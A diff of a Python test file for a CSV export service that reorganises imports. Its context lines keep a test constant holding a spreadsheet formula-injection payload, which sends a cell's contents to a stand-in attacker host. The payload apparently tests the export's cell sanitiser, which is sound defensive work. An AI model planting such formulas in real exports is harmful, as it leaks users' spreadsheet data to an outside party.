@@ -5,9 +5,12 @@ import io
 
 import pytest
 
-from harmony_portal.services import audit, audit_log, authentication, role_queries
+from harmony_portal.services.audit import admin_log as audit_log
+from harmony_portal.services.audit import trail as audit
 from harmony_portal.services.csv_export import safe_cell, to_csv
 from harmony_portal.services.errors import Invalid
+from harmony_portal.services.roles import queries as role_queries
+from harmony_portal.services.signin import authentication
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your badge")'
 
